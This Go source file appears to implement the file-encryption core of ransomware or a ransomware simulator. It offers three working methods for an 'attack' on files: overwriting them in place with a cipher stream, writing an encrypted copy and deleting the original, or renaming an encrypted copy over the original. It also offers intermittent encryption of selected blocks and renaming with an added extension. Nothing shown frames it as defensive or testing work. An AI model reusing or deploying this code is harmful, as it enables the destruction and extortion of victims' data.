package main

import (
	"crypto/cipher"
	"fmt"
	"os"
)

// change encrypts one file whose content is plain.
type change func(a *attack, name string, plain []byte, stream cipher.Stream) error

// method finds a way by its name.
func method(way string) (change, error) {
	switch way {
	case "inplace":
		return inPlace, nil
	case "copy":
		return copyThenDelete, nil
	case "replace":
		return replace, nil
	}
	return nil, fmt.Errorf("there is no way %q", way)
}

// span is a part of a file that is encrypted.
type span struct{ from, to int64 }

// spans lists what of size bytes is encrypted: all behind the header in one
// piece, or one block of so many.
func (o options) spans(size int64) []span {
	if o.every == 1 {
		if o.header >= size {
			return nil
		}
		return []span{{o.header, size}}
	}
	var all []span
	for from := int64(0); from < size; from += int64(o.every) * block {
		s := span{max(from, o.header), min(from+block, size)}
		if s.from < s.to {
			all = append(all, s)
		}
	}
	return all
}

// inPlace overwrites the file, and renames it if that was asked for.
func inPlace(a *attack, name string, plain []byte, stream cipher.Stream) error {
	f, err := a.root.OpenFile(name, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	for _, s := range a.spans(int64(len(plain))) {
		part := plain[s.from:s.to]
		stream.XORKeyStream(part, part)
		if _, err := f.WriteAt(part, s.from); err != nil {
			f.Close()
			return err
		}
	}
	if err := f.Close(); err != nil {
		return err
	}
	if !a.rename {
		return nil
	}
	return a.root.Rename(name, name+extension)
}

// sealed is the whole content after the attack.
func (a *attack) sealed(plain []byte, stream cipher.Stream) []byte {
	for _, s := range a.spans(int64(len(plain))) {
		stream.XORKeyStream(plain[s.from:s.to], plain[s.from:s.to])
	}
	return plain
}

// copyThenDelete writes an encrypted copy beside the file and deletes the file.
func copyThenDelete(a *attack, name string, plain []byte, stream cipher.Stream) error {
	if err := a.root.WriteFile(name+extension, a.sealed(plain, stream), 0o600); err != nil {
		return err
	}
	return a.root.Remove(name)
}

// replace renames an encrypted copy over the file.
func replace(a *attack, name string, plain []byte, stream cipher.Stream) error {
	if err := a.root.WriteFile(name+".tmp", a.sealed(plain, stream), 0o600); err != nil {
		return err
	}
	return a.root.Rename(name+".tmp", name)
}
